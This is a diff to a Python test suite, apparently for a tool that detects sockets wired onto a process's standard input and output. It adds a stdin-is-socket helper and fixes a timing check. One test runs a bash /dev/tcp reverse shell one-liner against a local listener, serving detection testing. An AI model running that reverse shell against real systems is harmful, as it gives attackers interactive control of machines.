@@ -44,6 +44,13 @@ def _peer_port(lst: Listener) -> int:
     return lst.accepted[0].getpeername()[1]
 
 
+def _stdin_is_socket(pid: int) -> bool:
+    try:
+        return os.readlink(f"/proc/{pid}/fd/0").startswith("socket:")
+    except OSError:
+        return False
+
+
 def _socket_record(records: list[dict], local_port: int, remote_port: int) -> dict:
     [record] = [r for r in records if r["kind"] == "connection" and r["local_port"] == local_port
                 and r["remote_port"] == remote_port]
@@ -57,7 +64,8 @@ def test_bash_dev_tcp_reverse_shell_is_stdio(shells):
         # The outer bash opens the socket on fd 5 and holds it; the interactive bash it starts has it as 0, 1, 2.
         outer = _spawn(shells, ["bash", "-c", f"exec 5<>/dev/tcp/127.0.0.1/{lst.port}; bash -i <&5 >&5 2>&5"])
         port = _peer_port(lst)
-        assert wait_until(lambda: len(psutil.Process(outer.pid).children()) == 1)
+        # The inner bash exists from its fork on, and has the socket as stdio once its redirections are done.
+        assert wait_until(lambda: any(_stdin_is_socket(c.pid) for c in psutil.Process(outer.pid).children()))
         records = snapshot()
     finally:
         lst.close()
@@ -77,7 +85,7 @@ def test_socket_duplicated_onto_its_owners_stdio(shells):
                 "time.sleep(60)\n")
         proc = _spawn(shells, [sys.executable, "-c", code, str(lst.port)])
         port = _peer_port(lst)
-        assert wait_until(lambda: os.readlink(f"/proc/{proc.pid}/fd/2").startswith("socket:"))
+        assert wait_until(lambda: _stdin_is_socket(proc.pid))
         records = snapshot()
     finally:
         lst.close()
